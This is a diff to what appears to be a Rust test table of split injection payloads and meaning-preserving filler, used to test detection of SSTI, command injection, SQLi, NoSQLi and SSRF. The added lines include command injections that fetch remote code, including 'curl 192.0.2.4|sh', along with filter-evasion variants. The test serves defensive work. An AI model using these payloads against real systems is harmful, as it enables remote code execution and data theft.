@@ -137,6 +137,8 @@ fn what_looks_like_a_comment_does_not_hide_a_command() {
 /// Attacks in parts, and what may be repeated between them without a change of their meaning.
 const REPEATABLE: &[(&str, &[&str], &[&str])] = &[
     ("ssti", &["{{", "7", "*", "7", "}}"], &[" ", "\n", "\t", "\r\n", "\u{a0}"]),
+    ("ssti", &["{{", "(7)*(7)", "}}"], &["(", ")", " ", "-"]),
+    ("ssti", &["{{(7)*(7)", "}}"], &["|e", " ", "|join(',')"]),
     ("ssti", &["{{", "config", "}}"], &[" ", "\n", "\r\n"]),
     ("ssti", &["", "{{7*7}}", ""], &["{{a}}", "${a}", "{b}", "<%c%>"]),
     ("ssti", &["", "${7*7}"], &["{{a ", "{", "(", "<"]),
@@ -144,10 +146,16 @@ const REPEATABLE: &[(&str, &[&str], &[&str])] = &[
     ("rce", &[";", "cat /etc/passwd"], &["env ", "nice ", "exec ", "env -i ", "a=b ", "</dev/null "]),
     ("rce", &["", ";cat /etc/passwd", ""], &[" # ", "a # ", "word ", " one two ", " '' ", " - "]),
     ("rce", &["", "; wget http://a.example/x", ""], &[" a", " some words", " \"\""]),
+    ("rce", &["", " || curl a.example/x"], &["word ", " one two ", " # "]),
+    ("rce", &["", " ; curl 192.0.2.4|sh"], &["word ", " one two "]),
     ("rce", &["", "$(nslookup a.example)", ""], &["word ", "one two ", " # "]),
     ("rce", &["; id", ""], &["\0", " ", "\n"]),
     ("sqli", &["' or ", "1=1-- "], &["not ", "~", "- ", "+ ", "!", " ", "/**/"]),
-    ("sqli", &["' or 1", "=1-- "], &["+0", "*1", " ", "::int"]),
+    (
+        "sqli",
+        &["' or 1", "=1-- "],
+        &["+0", "*1", " ", "::int", " collate x", "::char(9) collate a.b", " isnull"],
+    ),
     ("nosqli", &["';", "while(true){};'"], &[";", " ", "\n"]),
     ("ssrf", &["ht", "tp://127.0.0.1/"], &["\t", "\n", "\r\n"]),
     ("ssrf", &["http://", "x@169.254.169.254/"], &["a", "a:", "-"]),
